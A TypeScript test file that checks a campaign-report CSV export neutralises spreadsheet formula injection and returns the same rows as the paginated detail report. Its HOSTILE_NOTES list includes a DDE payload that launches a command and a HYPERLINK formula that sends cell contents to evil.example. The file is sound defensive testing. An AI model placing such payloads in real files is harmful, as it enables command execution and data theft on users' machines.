// Export CSV end to end: hostile notes go in through PUT /api/responses/{id} on the real reference
// server (API only, in-memory PGlite), come out through createCampaignRestAdapter's CSV stream, and
// every cell a spreadsheet would run as a formula arrives neutralised; the exported rows are exactly
// the rows the detail report pages through with the same filters.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { startServer, type RunningServer } from '../../server/start.js';
import { createCampaignRestAdapter, type CampaignReportsAdapter, type ReportQuery } from '../../src/adapter/index.js';
import type { CampaignResponseRow } from '../../src/model/campaign-stats.js';
import { parseCsv } from '../support/server/csv.js';

const CAMPAIGN = 'spring-launch-2026';
const EVENT = 'spring-announce';
/** In every note of this test, so a `q` filter selects exactly these lines among the seed's. */
const MARK = 'csv-export-7f3a';

/** Notes a spreadsheet would run, each with what a safe export must turn it into. */
const HOSTILE_NOTES = [
  `=1+1 ${MARK}`,
  `+SUM(A1:A9) ${MARK}`,
  `-2+3 ${MARK}`,
  `@cmd|' /C calc'!A0 ${MARK}`,
  `\t=tab first ${MARK}`,
  `\r=carriage return first ${MARK}`,
  `=HYPERLINK("https://evil.example/?q="&A1, "Click, please") ${MARK}`,
];
const PLAIN_NOTES = [`called back, "all good" ${MARK}`, `Élodie paid 5 € ${MARK}\r\nsecond line`];
const FORMULA_START = /^[=+\-@\t\r]/u;

let server: RunningServer;
let adapter: CampaignReportsAdapter;
const inserted = new Map<string, { note: string; recipientId: string; detailId: string }>();

before(async () => {
  server = await startServer({ port: 0, host: '127.0.0.1', dataDir: 'memory://', vite: false, token: 'csv-token' });
  const baseUrl = `${server.url}/api`;
  adapter = createCampaignRestAdapter({ baseUrl, headers: { Authorization: `Bearer ${server.token}` } });
  const recipients = ['42', '43', '44', '45'];
  const notes = [...HOSTILE_NOTES, ...PLAIN_NOTES];
  for (const [index, note] of notes.entries()) {
    const id = crypto.randomUUID();
    const recipientId = recipients[index % recipients.length];
    const detailId = index % 2 === 0 ? 'responded' : 'received';
    const respondedAt = new Date(Date.parse('2026-03-01T12:00:00.000Z') + index * 3_600_000).toISOString();
    const response = await fetch(`${baseUrl}/responses/${id}`, {
      method: 'PUT',
      headers: { Authorization: `Bearer ${server.token}`, 'Content-Type': 'application/json', 'Idempotency-Key': id },
      body: JSON.stringify({ id, recipientId, campaignId: CAMPAIGN, eventId: EVENT, detailId, respondedAt, note }),
    });
    assert.ok(response.status === 201 || response.status === 200, `PUT ${index}: ${response.status} ${await response.text()}`);
    inserted.set(id, { note, recipientId, detailId });
  }
});
after(() => server.close());

/** The export as the browser would write it: every chunk of the stream, in order. */
async function exportCsv(query: ReportQuery): Promise<{ header: string[]; records: Record<string, string>[] }> {
  const stream = await adapter.exportCampaignResponsesCsv(CAMPAIGN, query);
  const chunks: Uint8Array[] = [];
  const reader = stream.getReader();
  for (let next = await reader.read(); !next.done; next = await reader.read()) chunks.push(next.value);
  const bytes = Buffer.concat(chunks);
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 with a byte order mark');
  const [header, ...rows] = parseCsv(bytes.subarray(3).toString('utf8'));
  for (const row of rows) assert.equal(row.length, header.length, 'every record has every column');
  return { header, records: rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]]))) };
}

/** Every row of the detail report for `query`, page by page with the cursor. */
async function walk(query: ReportQuery, limit: number): Promise<CampaignResponseRow[]> {
  const rows: CampaignResponseRow[] = [];
  let cursor: string | undefined;
  do {
    const page = await adapter.getCampaignResponses(CAMPAIGN, { ...query, cursor, limit });
    rows.push(...page.items);
    cursor = page.nextCursor ?? undefined;
  } while (cursor);
  return rows;
}

test('every hostile note comes out neutralised with a leading apostrophe; plain notes unchanged', async () => {
  const { header, records } = await exportCsv({ q: MARK });
  assert.ok(header.includes('Note') && header.includes('Line ID'));
  assert.equal(records.length, HOSTILE_NOTES.length + PLAIN_NOTES.length);
  for (const record of records) {
    const line = inserted.get(record['Line ID']);
    assert.ok(line, `an exported line ${record['Line ID']} that this test inserted`);
    if (FORMULA_START.test(line.note)) {
      assert.equal(record.Note, `'${line.note}`, `neutralised: ${JSON.stringify(line.note)}`);
    } else {
      assert.equal(record.Note, line.note, `unchanged: ${JSON.stringify(line.note)}`);
    }
    for (const [column, value] of Object.entries(record)) {
      assert.doesNotMatch(value, FORMULA_START, `no cell starts a formula (${column}: ${JSON.stringify(value)})`);
    }
  }
  const neutralised = records.filter((r) => r.Note.startsWith("'")).map((r) => r.Note.slice(1));
  assert.deepEqual(neutralised.sort(), [...HOSTILE_NOTES].sort(), 'each of = + - @ tab CR was caught');
});

for (const [name, query] of [
  ['note text only (default sort, newest first)', { q: MARK }],
  ['a detail, sorted by recipient', { q: MARK, detailId: 'responded', sort: 'recipient' }],
  ['a category, a date range and people only, oldest first', {
    q: MARK, categoryId: 'received', from: '2026-03-01T13:00:00.000Z', to: '2026-03-01T20:00:00.000Z', machine: false, sort: 'respondedAt',
  }],
  ['the source and an event, sorted by detail descending', { q: MARK, source: 'manual', eventId: EVENT, sort: '-detail' }],
] as [string, ReportQuery][]) {
  test(`the export holds exactly the detail report's rows, in its order: ${name}`, async () => {
    const expected = await walk(query, 2);
    assert.ok(expected.length > 0, 'the filters select something');
    const { records } = await exportCsv(query);
    assert.deepEqual(records.map((r) => r['Line ID']), expected.map((row) => row.id));
    for (const [i, row] of expected.entries()) {
      const record = records[i];
      assert.equal(record['Responded at (UTC)'], row.respondedAt);
      assert.equal(record['Recipient ID'], row.recipientId);
      assert.equal(record.Recipient, row.recipientName);
      assert.equal(record['Event ID'], row.eventId);
      assert.equal(record['Detail ID'], row.detailId);
      assert.equal(record.Source, row.source);
      assert.equal(record.Note, FORMULA_START.test(row.note) ? `'${row.note}` : row.note);
    }
  });
}
